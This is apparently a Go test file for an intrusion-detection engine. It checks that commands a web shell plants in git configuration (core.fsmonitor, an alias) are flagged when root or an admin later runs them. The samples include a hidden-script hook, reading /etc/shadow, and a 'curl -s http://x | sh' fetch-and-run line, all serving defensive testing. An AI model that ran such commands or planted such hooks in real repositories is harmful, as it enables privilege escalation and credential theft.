package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

// TestPlantedCommandFired: a command the intrusion writes into a
// configuration (git config core.fsmonitor '<cmd>' in a deploy tree the
// web account owns) is run later by a shell of what reads it (root's git
// status: sh -c '<cmd> "$@"' '<cmd>' …); the text in both command lines is
// the evidence, and what the shell starts acts for the intrusion. The same
// text from no intrusion, run before it was set, or run as the shell's
// own code by the intruder again, is no firing.
func TestPlantedCommandFired(t *testing.T) {
	const hook = "sh /var/tmp/.t/t.sh; false"
	fire := []string{"/bin/sh", "-c", hook + ` "$@"`, hook, "2", "1796474581452882775"}
	for _, c := range []struct {
		name    string
		setter  uint32 // the account whose git sets it: 33 under the web shell, 2002 an admin's
		before  bool   // the shell runs before the setting
		shellOf []string
		want    bool
	}{
		{"root's git runs the hook the web shell set", 33, false, fire, true},
		{"the text as the shell's code alone", 33, false, []string{"sh", "-c", hook}, true},
		{"an administrator set it", 2002, false, fire, false},
		{"run before it was set", 33, true, fire, false},
		{"another command", 33, false, []string{"/bin/sh", "-c", `sh /var/tmp/.t/u.sh "$@"`, "sh /var/tmp/.t/u.sh"}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			shell := func() []*Finding {
				s.exec(400, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
				s.exec(401, 400, 0, "root", "/srv/site", "/usr/bin/git", "git", "-C", "/srv/site", "status", "--porcelain")
				return e.Observe(s.exec(402, 401, 0, "root", "/srv/site", "/usr/bin/dash", c.shellOf...), s.tree)
			}
			var got []*Finding
			if c.before {
				got = shell()
				s.t = s.t.Add(time.Minute)
			}
			parent := 201
			if c.setter != 33 {
				s.exec(300, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd: alice [priv]")
				s.exec(301, 300, c.setter, "alice", "/home/alice", "/usr/bin/bash", "-bash")
				parent = 301
			}
			user := map[uint32]string{33: "www-data", 2002: "alice"}[c.setter]
			e.Observe(s.exec(210, parent, c.setter, user, "/srv/site", "/usr/bin/git", "git", "-C", "/srv/site", "config", "core.fsmonitor", hook), s.tree)
			w := e.Observe(s.file(parser.KindFileWrite, 210, parent, c.setter, "/usr/bin/git", "/srv/site/.git/config", true), s.tree)
			if c.setter == 33 && findingOf(w, "web-persistence-file-write") == nil {
				t.Fatalf("the config's write: %v, want web-persistence-file-write", ids(w))
			}
			if !c.before {
				s.t = s.t.Add(time.Minute)
				got = shell()
			}
			f := findingOf(got, RulePlantedFileRun)
			if (f != nil) != c.want {
				t.Fatalf("planted-file-run on the shell: %v, want %v (%v)", f != nil, c.want, ids(got))
			}
			if f == nil {
				return
			}
			if f.Title != "Planted Command Fired" || f.Stage != StagePersistence || !strings.Contains(f.Reason, "git[210] configured") || !strings.Contains(f.Reason, "observed") || len(f.Related) == 0 {
				t.Errorf("title %q stage %v reason %q related %d: want the configured command named as observed, with the write as evidence", f.Title, f.Stage, f.Reason, len(f.Related))
			}
			// what the hook starts acts for the intrusion: root reading
			// the password hashes is the web server's act
			r := e.Observe(s.exec(403, 402, 0, "root", "/srv/site", "/usr/bin/head", "head", "-n", "3", "/etc/shadow"), s.tree)
			if g := has(r, "web-secrets-command"); g == nil {
				t.Errorf("the hook's child reading /etc/shadow: %v, want it judged as acting for the web server", ids(r))
			}
		})
	}
}

// TestPlantedAliasFired: a git alias runs what follows its "!" (git
// config alias.st '!sh /tmp/x'; git st runs sh -c 'sh /tmp/x "$@"').
func TestPlantedAliasFired(t *testing.T) {
	e, s := webShellScene(t)
	e.Observe(s.exec(210, 201, 33, "www-data", "/srv/site", "/usr/bin/git", "git", "-C", "/srv/site", "config", "alias.st", "!sh /var/tmp/.t/a.sh"), s.tree)
	if w := e.Observe(s.file(parser.KindFileWrite, 210, 201, 33, "/usr/bin/git", "/srv/site/.git/config", true), s.tree); findingOf(w, "web-persistence-file-write") == nil {
		t.Fatalf("the config's write: %v", ids(w))
	}
	s.t = s.t.Add(time.Minute)
	s.exec(401, 1, 2002, "alice", "/srv/site", "/usr/bin/git", "git", "st")
	got := e.Observe(s.exec(402, 401, 2002, "alice", "/srv/site", "/usr/bin/dash", "/bin/sh", "-c", `sh /var/tmp/.t/a.sh "$@"`, "sh /var/tmp/.t/a.sh"), s.tree)
	if f := findingOf(got, RulePlantedFileRun); f == nil || f.Title != "Planted Command Fired" {
		t.Fatalf("the alias's shell: %v, want Planted Command Fired", ids(got))
	}
}

// TestCommandText: only an argument that reads as a command line is kept.
func TestCommandText(t *testing.T) {
	for _, c := range []struct {
		arg  string
		want bool
	}{
		{"sh /var/tmp/.t/t.sh; false", true},
		{"/tmp/x -q", true},
		{"!f() { curl -s http://x | sh; }; f", true},
		{"less -R", true},
		{"core.fsmonitor", false},
		{"--global", false},
		{"Update the docs", false}, // a sentence: its first word is no command
		{"/srv/site", false},       // a path alone
		{"a b", false},             // too short to be anything
		{strings.Repeat("x ", plantedCmdLen), false},
	} {
		if got := commandText(c.arg); got != c.want {
			t.Errorf("commandText(%q) = %v, want %v", c.arg, got, c.want)
		}
	}
}
